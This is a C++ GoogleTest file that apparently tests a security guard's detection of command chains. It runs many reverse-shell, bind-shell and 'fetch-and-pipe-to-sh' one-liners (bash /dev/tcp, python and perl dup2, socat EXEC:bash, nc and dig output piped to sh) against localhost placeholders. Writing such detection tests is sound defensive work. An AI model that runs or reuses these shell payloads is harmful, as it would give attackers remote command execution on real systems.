// SPDX-License-Identifier: Apache-2.0
// Interpreters that somebody out there types into: reverse shells, bind shells, listeners.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <sstream>

#include "chain_attack.h"

namespace davylamp::test {
namespace {

#define SOCKET_CASE(name, command)                                                                 \
    {                                                                                              \
        name, command, Order::reader_late, "CHAIN-002"                                             \
    }
// The caller, once somebody listens.
#define CALL "until nc -q0 127.0.0.1 @PORT < @D/local.sh; do sleep 0.05; done"

// Answers one datagram with a script.
#define ANSWERS                                                                                    \
    "cat > @D/udp.py <<'END'\n"                                                                    \
    "import os, socket\n"                                                                          \
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"                                       \
    "s.bind(('127.0.0.1', 0))\n"                                                                   \
    "open('@D/p', 'w').write(str(s.getsockname()[1]))\n"                                           \
    "os.rename('@D/p', '@D/port')\n"                                                               \
    "s.settimeout(9)\n"                                                                            \
    "s.sendto(open('@D/local.sh', 'rb').read(), s.recvfrom(99)[1])\n"                              \
    "END\n"                                                                                        \
    "/usr/bin/python3 @D/udp.py & until [ -e @D/port ]; do sleep 0.01; done; port=$(< @D/port); "
// Asks it, from a socket that is not connected.
#define ASKS                                                                                       \
    "/usr/bin/python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET6 if \":\" in "      \
    "sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (sys.argv[1], "         \
    "int(sys.argv[2]))); print(s.recvfrom(999)[0].decode())' "

const Attack kSocketAttacks[] = {
    {"a datagram's answer", ANSWERS ASKS "127.0.0.1 $port | sh; kill $!"},
    {"a datagram's answer, by an IPv6 socket", ANSWERS ASKS "::ffff:127.0.0.1 $port | sh; kill $!"},
    SOCKET_CASE("bash -i by dev tcp", "bash -i >& @COMMANDS 0>&1"),
    SOCKET_CASE("exec by dev tcp", "exec 5<>@COMMANDS; bash <&5 >&5 2>&5"),
    SOCKET_CASE("python dup2", "/usr/bin/python3 -c 'import os, socket, subprocess; "
                               "s = socket.create_connection((\"127.0.0.1\", @COMMAND_PORT)); "
                               "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; "
                               "subprocess.call([\"/bin/sh\", \"-i\"])'"),
    SOCKET_CASE("perl dup", "perl -MIO::Socket::INET -e '$s = "
                            "IO::Socket::INET->new(\"127.0.0.1:@COMMAND_PORT\"); "
                            "open(STDIN, \"<&\", $s); exec \"/bin/sh\"'"),
    SOCKET_CASE("socat calls", "timeout 5 socat TCP:127.0.0.1:@COMMAND_PORT EXEC:bash"),
    SOCKET_CASE("socat calls, with pipes",
                "timeout 5 socat TCP:127.0.0.1:@COMMAND_PORT EXEC:bash,pipes"),
    SOCKET_CASE("socat calls, with pipes and a shell in between",
                "timeout 5 socat TCP:127.0.0.1:@COMMAND_PORT SYSTEM:'exec bash -s',pipes"),
    SOCKET_CASE("socat listens",
                "timeout 5 socat TCP-LISTEN:@PORT,reuseaddr EXEC:bash & " CALL "; wait"),
    {"nc listens and sh reads", "timeout 9 nc -l -p @PORT | sh & " CALL "; wait",
     Order::reader_late},
    {"nc calls and sh reads", "timeout 5 nc 127.0.0.1 @COMMAND_PORT < /dev/null | sh"},
};

// Of a recording's flows to the command server, how they travelled.
std::vector<int> families_in(const std::string& recording, std::uint16_t port)
{
    Subprocess dump({davylamp(), "dump", recording});
    EXPECT_EQ(dump.wait(), 0) << dump.err();
    std::vector<int> families;
    std::istringstream lines(dump.out());
    for (std::string line; std::getline(lines, line);) {
        nlohmann::json record = nlohmann::json::parse(line);
        if (record["kind"] == "chain" && record["flow"]["remote_port"] == port)
            families.push_back(record["flow"]["family"]);
    }
    return families;
}

// What a name server answers is text that dig prints. Nobody listens here: the question is enough.
TEST(ChainSocketDns, ConvictsWhoPrintsAnswersToAShell)
{
    for (Mode mode : {Mode::monitor, Mode::block, Mode::kill}) {
        ChainSite site;
        GuardResult result =
            run_guard(mode, site.fill("dig +tries=1 +time=1 @127.0.0.1 x.example TXT | sh; true"));
        EXPECT_THAT(result.codes(), testing::Contains("CHAIN-001")) << result.out << result.err;
        EXPECT_EQ(result.first("CHAIN-001").did("refuse"), mode != Mode::monitor) << result.out;
    }
}

// Java opens AF_INET6 for everything. What it connects to an IPv4 address travels as IPv4, and is
// told so whether the socket or the connect is asked.
TEST(ChainSocketFamily, IsThatOfThePackets)
{
    struct {
        const char* name;
        const char* command;
    } const cases[] = {
        {"a socket as stdin", "/usr/bin/python3 -c '@CONNECT os.dup2(s.fileno(), 0); "
                              "os.execv(\"/bin/bash\", [\"bash\"])'"},
        {"a socket that cat reads", "/usr/bin/python3 -c '@CONNECT os.dup2(s.fileno(), 0); "
                                    "os.execv(\"/bin/cat\", [\"cat\"])' | bash"},
    };
    ChainSite sites[std::size(cases)];
    std::string script;
    for (std::size_t i = 0; i < std::size(cases); i++)
        script += sites[i].fill(replaced(cases[i].command, "@CONNECT",
                                         "import os, socket; s = socket.socket(socket.AF_INET6); "
                                         "s.connect((\"::ffff:127.0.0.1\", @COMMAND_PORT));") +
                                "\n");
    TempFolder folder;
    GuardOptions options;
    options.record = folder / "recording";
    options.command = bash(script);
    GuardResult result = run_guard(options);
    for (std::size_t i = 0; i < std::size(cases); i++) {
        std::vector<int> families = families_in(options.record, sites[i].commands.port());
        EXPECT_THAT(families, testing::Not(testing::IsEmpty())) << cases[i].name << result.err;
        EXPECT_THAT(families, testing::Each(4)) << cases[i].name;
    }
}

using ChainSocket = ChainAttack;

TEST_P(ChainSocket, Attack) { expect_stopped(std::get<0>(GetParam()), std::get<1>(GetParam())); }

INSTANTIATE_TEST_SUITE_P(Live, ChainSocket,
                         testing::Combine(testing::ValuesIn(kSocketAttacks),
                                          testing::Values(Mode::monitor, Mode::block, Mode::kill)),
                         attack_name);

} // namespace
} // namespace davylamp::test
